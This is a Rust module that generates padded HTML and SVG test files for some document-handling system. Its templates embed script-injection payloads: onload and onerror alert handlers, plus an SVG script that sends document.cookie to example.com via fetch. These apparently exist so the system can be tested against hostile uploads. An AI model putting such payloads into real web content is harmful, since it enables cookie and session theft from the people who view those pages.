//! HTML and SVG, with the scripts that come with such files.

use super::Subject;

/// Fills what is between two parts with lines, to exactly so many bytes.
fn between(mut head: String, tail: &str, size: usize, line: impl Fn(i64) -> String) -> String {
    let full = size.saturating_sub(tail.len());
    for number in 0.. {
        let line = line(number);
        if head.len() + line.len() > full {
            break;
        }
        head.push_str(&line);
    }
    head.push_str(&" ".repeat(full.saturating_sub(head.len())));
    head + tail
}

pub(super) fn html(subject: &Subject<'_>) -> String {
    let mut head = format!(
        "<!doctype html>\n<html lang=\"en\"><head><meta charset=\"utf-8\"><title>{}</title>\n\
         <script>document.title = 'opened ' + location.href</script></head>\n<body onload=\"alert(1)\">\n<table>\n",
        subject.arrival.kind().title
    );
    for (name, value) in subject.heading() {
        head.push_str(&format!("<tr><th>{name}</th><td>{value}</td></tr>\n"));
    }
    head.push_str("</table>\n<img src=\"https://example.com/pixel.gif\" onerror=\"alert(2)\">\n");
    between(head, "</body></html>\n", subject.size, |number| format!("<p>{}</p>\n", subject.sentence(number)))
}

pub(super) fn svg(subject: &Subject<'_>) -> String {
    let head = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 800 600\" onload=\"alert(1)\">\n\
         <script>fetch('https://example.com/'+document.cookie)</script>\n<title>{}</title>\n\
         <text x=\"20\" y=\"30\">{} {}</text>\n",
        subject.arrival.kind().title,
        subject.arrival.property_id(),
        subject.arrival.document_id()
    );
    let dice = subject.dice().of("boundaries");
    between(head, "</svg>\n", subject.size, |number| {
        let point = |name: &str, most: f64| dice.of(name).at(number).between(0.0, most);
        let (x, y) = (point("x", 800.0), point("y", 600.0));
        format!(
            "<path d=\"M{x:.1} {y:.1}l{:.1} {:.1}\" stroke=\"#c00\"/>\n",
            point("dx", 60.0),
            point("dy", 60.0)
        )
    })
}
